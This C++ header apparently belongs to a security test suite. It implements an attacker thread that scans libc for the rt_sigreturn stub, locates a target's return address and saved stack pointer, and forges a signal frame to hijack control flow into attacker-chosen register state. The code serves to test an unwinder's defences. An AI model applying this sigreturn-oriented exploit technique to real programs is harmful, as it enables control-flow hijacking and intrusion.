/* forged-sigframe.h - review 53's forged signal frame (attacks-rev53-
 * forged-sigframe.cpp, attacks-rev58b-stale-walk.cpp): the attacker thread
 * of unwind-vault.h's program. Once the vault's callback waits, it
 * replaces the callback's return address below the call out's frame with
 * a signal-return stub (glibc's __restore_rt, or with `own` a copy of its
 * bytes in this program's code, covered by no FDE) and writes a ucontext
 * above it that resumes vault_run's catch with rbx and rbp of its choice;
 * only if `armed`. */
#ifndef FORGED_SIGFRAME_H
#define FORGED_SIGFRAME_H
#include "unwind-vault.h"
#include <link.h>
#include <stddef.h>
#include <ucontext.h>

/* The stub's bytes in this program's code, covered by no FDE (no CFI
 * directives): a stand-in for any such bytes in code without CFI. */
__asm__(".text\n"
        "nop\n"
        "own_stub:\n"
        "movq $15, %rax\n"
        "syscall\n"
        "ud2\n");
extern "C" const unsigned char own_stub[];

static const unsigned char STUB[] = {0x48, 0xc7, 0xc0, 0x0f, 0x00,
                                     0x00, 0x00, 0x0f, 0x05};

/* glibc's __restore_rt: the stub's bytes in libc's code (not exported). */
static int find_restorer(struct dl_phdr_info *info, size_t, void *arg) {
  const char *name = strrchr(info->dlpi_name, '/');
  if (!name || strcmp(name, "/libc.so.6"))
    return 0;
  for (int i = 0; i < info->dlpi_phnum; i++) {
    const ElfW(Phdr) *ph = &info->dlpi_phdr[i];
    if (ph->p_type != PT_LOAD || !(ph->p_flags & PF_X))
      continue;
    const unsigned char *p = (const unsigned char *)(info->dlpi_addr +
                                                     ph->p_vaddr);
    const unsigned char *end = p + ph->p_filesz - sizeof STUB;
    for (; p < end; p++)
      if (!memcmp(p, STUB, sizeof STUB)) {
        *(uintptr_t *)arg = (uintptr_t)p;
        return 1;
      }
  }
  return 0;
}

static int armed, own;

static void *attacker(void *) {
  uintptr_t key, step, run;
  __asm__("leaq vault_key(%%rip), %0" : "=r"(key));
  __asm__("leaq vault_step(%%rip), %0" : "=r"(step));
  __asm__("leaq \"__bulkhead_body.vault_run\"(%%rip), %0" : "=r"(run));
  long frame = vault_step_frame();
  /* vault_run's return point from vault_step: after its call. */
  uintptr_t back = 0;
  for (const unsigned char *q = (const unsigned char *)run;
       q < (const unsigned char *)run + 512 && !back; q++) {
    int32_t d;
    memcpy(&d, q + 1, 4);
    if (q[0] == 0xe8 && (uintptr_t)q + 5 + d == step)
      back = (uintptr_t)q + 5;
  }
  uintptr_t stub = (uintptr_t)own_stub;
  if (!own && !dl_iterate_phdr(find_restorer, &stub))
    stub = 0;
  printf("vault_step's frame: %s, return point: %s\n",
         frame < 0 ? "not found" : "found", back ? "found" : "not found");
  printf("stub %s\n", stub ? "found" : "not found");
  arm_request();
  volatile uintptr_t *found = find_saved_sp();
  printf("saved stack pointer %s\n", found ? "found" : "not found");
  if (found && frame >= 0 && back && stub && armed) {
    forge_sigframe(found, frame, back, key, stub);
  }
  if (write(ack[1], "k", 1) != 1)
    puts("no acknowledgement");
  return NULL;
}
#endif
